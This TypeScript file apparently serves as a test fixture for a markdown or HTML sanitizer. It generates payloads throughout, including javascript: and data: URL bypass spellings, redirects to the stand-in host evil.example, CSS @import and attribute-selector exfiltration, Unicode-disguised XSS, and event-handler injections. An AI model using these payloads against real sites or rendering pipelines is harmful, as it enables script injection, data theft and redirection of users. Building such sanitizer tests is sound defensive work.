import { combine, type Payload } from './payload.ts';

/** Addresses that run something, in the spellings that lists of forbidden words miss. */
export const RUNNING_ADDRESSES: readonly string[] = [
  'javascript:__hit(«id»)',
  'JaVaScRiPt:__hit(«id»)',
  'java\tscript:__hit(«id»)',
  'java\nscript:__hit(«id»)',
  'java\rscript:__hit(«id»)',
  ' \u0001javascript:__hit(«id»)',
  '\u00a0javascript:__hit(«id»)',
  'javascript&colon;__hit(«id»)',
  'javascript&#58;__hit(«id»)',
  'javascript&#x3A;__hit(«id»)',
  '&#106;avascript:__hit(«id»)',
  '&#0000106&#0000097vascript:__hit(«id»)',
  'java&Tab;script:__hit(«id»)',
  'java&NewLine;script:__hit(«id»)',
  'javascript:%5f_hit(«id»)',
  'javascript://https://docs.test/%0a__hit(«id»)',
  'javascript:/*https://docs.test/*/__hit(«id»)//',
  "javascript:'<svg/onload=top.__hit(«id»)>'",
  'ｊavascript:__hit(«id»)',
  'view-source:javascript:__hit(«id»)',
  'feed:javascript:__hit(«id»)',
  'vbscript:__hit(«id»)',
  'livescript:__hit(«id»)',
  'data:text/html,<script>top.__hit(«id»)</script>',
  'data:text/html;charset=utf-7,+ADw-script+AD4-top.__hit(«id»)+ADw-/script+AD4-',
  'data:image/svg+xml,<svg/onload=top.__hit(«id») xmlns=http://www.w3.org/2000/svg>',
  'data:text/javascript,__hit(«id»)',
  'DATA:,__hit(«id»)',
  'blob:https://evil.example/«id»',
  'filesystem:https://evil.example/«id»',
  'intent://evil.example/«id»#Intent;scheme=https;end',
];

/** Addresses of somebody else's host, in the spellings that checks of hosts misread. */
export const FOREIGN_ADDRESSES: readonly string[] = [
  'https://evil.example/«id»',
  'http://evil.example/«id»?q=secret',
  '//evil.example/«id»',
  String.raw`\\evil.example/«id»`,
  String.raw`/\evil.example/«id»`,
  'https:evil.example/«id»',
  'https:/evil.example/«id»',
  'https:///evil.example/«id»',
  'hTTpS://EVIL.example/«id»',
  'https://docs.test@evil.example/«id»',
  'https://docs.test%2f@evil.example/«id»',
  'https://evil.example:443/«id»#docs.test',
  'https://evil。example/«id»',
  'https://ｅvil.example/«id»',
  'https://evil.ex\u00adample/«id»',
  'https://x«id».evil.example/',
  'ftp://evil.example/«id»',
  'ws://evil.example/«id»',
  'https://evil.example/«id»#:~:text=prefix-,a,b,-suffix',
  '/../..//evil.example/«id»',
  '/.//evil.example/«id»',
  '\t//evil.example/«id»',
  '?next=//evil.example/«id»',
  '#//evil.example/«id»',
];

/** As they are, for places that take an address. */
export const ADDRESSES: readonly Payload[] = [...RUNNING_ADDRESSES, ...FOREIGN_ADDRESSES].map((template) => ({
  name: 'address',
  template,
}));

const CARRIERS: readonly string[] = [
  '[click](«url»)',
  '![pixel](«url»)',
  '[click](<«url»> "title")',
  '[![pixel](«url»)](«url»)',
  '[ref]: «url»\n\n[ref] ![x][ref]',
  '[^1]: «url»\n\nProved.[^1]',
  '<«url»>',
  'Read «url» first',
  '*[**a ![x](«url»)**](«url»)*',
  '# [x](«url»)\n\n> ![x](«url»)',
  '- [x](«url»)\n1. ![x](«url»)',
  '| a | [x](«url») |\n| - | - |\n| ![x](«url») | b |',
  '\\[a](«url») \\\\[b](«url»)',
  '`a](«url»)`[b](«url»)',
  '```\nx\n```\n![x](«url»)',
  '~~~html\n<img src="«url»">\n~~~',
  '<a href="«url»">*x*</a> <img src="«url»">',
  '<div>\n\n[x](«url»)\n\n</div>',
  '&#91;x](«url») &lbrack;y&rbrack;(«url»)',
  '$\\href{«url»}{x}$ \\url{«url»}',
  '![[«url»]] [[«url»|x]] {{«url»}}',
  ':::note[x](«url»)\n![x](«url»)\n:::',
  '[x](\n  «url»\n  "a"\n)',
  '[a\nb]( «url» ) [](«url»)',
];

export const MARKDOWN: readonly Payload[] = [
  ...combine({ kind: 'markdown', carriers: CARRIERS, slot: '«url»', fillings: FOREIGN_ADDRESSES, each: 6 }),
  ...combine({ kind: 'markdown', carriers: CARRIERS, slot: '«url»', fillings: RUNNING_ADDRESSES, each: 6 }),
];

const STYLE_CARRIERS: readonly string[] = [
  '<style>@import "«url»";</style>',
  '<style>@import url(«url»);</style>',
  '<style>*{background:url("«url»")}</style>',
  '<style>@font-face{font-family:x;src:url(«url»)}*{font-family:x}</style>',
  '<style>textarea[value^=a]{background:url(«url»)}</style>',
  '<style>:host{cursor:url(«url»),auto;list-style:url(«url»)}</style>',
  '<p style="background:url(«url»)">x</p>',
  '<p style="background-image:image-set(\'«url»\' 1x)">x</p>',
  '<p style="behavior:url(«url»);-moz-binding:url(«url»)">x</p>',
  '<p style="width:expression(__hit(«id»))" title="«url»">x</p>',
  '<p style="--x:url(«url»);content:var(--x)">x</p>',
  '<svg style="filter:url(«url»#x);mask:url(«url»)"><rect fill="url(«url»#x)"/></svg>',
  'url(«url»)',
  'red;background:url(«url»)',
  '} * { background: url(«url») } {',
  '@import "«url»";',
];

export const STYLES: readonly Payload[] = combine({
  kind: 'style',
  carriers: STYLE_CARRIERS,
  slot: '«url»',
  fillings: FOREIGN_ADDRESSES.slice(0, 12),
  each: 4,
});

const CORES: readonly string[] = [
  '<img src=x onerror=__hit(«id»)>',
  '[click](javascript:__hit(«id»))',
  '![x](https://evil.example/«id»)',
];

const tagged = (text: string): string =>
  [...text].map((char) => String.fromCodePoint(0xe_00_00 + (char.codePointAt(0)! & 0x7f))).join('');
const fullWidth = (text: string): string =>
  text.replaceAll(/[<>"'()[\]!=:/]/gu, (char) => String.fromCodePoint(char.codePointAt(0)! + 0xfe_e0));

/** The same in characters that are not seen, turn around, look alike, or become others when they are normalised or cut. */
const DISGUISES: readonly (readonly [string, (text: string) => string])[] = [
  ['right to left', (text) => `\u202e${text}\u202c`],
  ['isolated', (text) => `\u2067${text}\u2069`],
  ['zero width', (text) => text.replaceAll(/(?<=<|java|!\[)/gu, '\u200b')],
  ['joined', (text) => text.replaceAll(/(?<=\w)(?=\w{3})/gu, '\u2060')],
  ['behind a byte order mark', (text) => `\ufeff${text}`],
  ['in tag characters', (text) => `${text} ${tagged(text)}`],
  ['full width', (text) => `${fullWidth(text)} ${text}`],
  ['with marks', (text) => text.replaceAll(/[<>]/gu, (char) => `${char}\u0338`) + text],
  ['half a pair', (text) => `\ud83d${text}\ude00`],
  ['after a null', (text) => `a\u0000${text}`],
  ['after an escape', (text) => `\u001b[31m\u001b]8;;https://evil.example/«id»\u0007${text}`],
  ['line separators', (text) => `\u2028${text}\u2029`],
  ['next line', (text) => `\u0085${text}\u000b`],
  ['escaped once', (text) => text.replaceAll('<', '&lt;').replaceAll('[', '&#91;') + text],
  ['escaped twice', (text) => text.replaceAll('<', '&amp;lt;').replaceAll('(', '&amp;#40;') + text],
  ['percent', (text) => `${text.split('«id»').map(encodeURIComponent).join('«id»')} ${text}`],
  ['very long', (text) => `${text} ${'a '.repeat(300)}${text}`],
  ['deep', (text) => `${text} ${'<b>'.repeat(60)}${'['.repeat(60)}${text}`],
];

export const CHARACTERS: readonly Payload[] = DISGUISES.flatMap(([name, disguise]) =>
  CORES.map((core) => ({ name: `characters/${name}`, template: disguise(core) })),
);

/** As plain as they can be, so that nothing else that they do stops what is being tried. Text in front keeps them in sight. */
export const PLAIN: readonly Payload[] = [
  '«id» <img src=x onerror=__hit(«id»)>',
  '«id» <img src=//evil.example/«id»>',
  '«id» <iframe src=//evil.example/«id»></iframe>',
  '«id» <audio src=x onerror=__hit(«id»)></audio>',
  '«id» <svg onload=__hit(«id»)></svg>',
  '«id» <details open ontoggle=__hit(«id»)></details>',
  '«id» ![x](https://evil.example/«id»)',
  '«id» [click](https://evil.example/«id»)',
  '«id» <script>__hit(«id»)</script>',
].map((template) => ({ name: 'plain', template }));
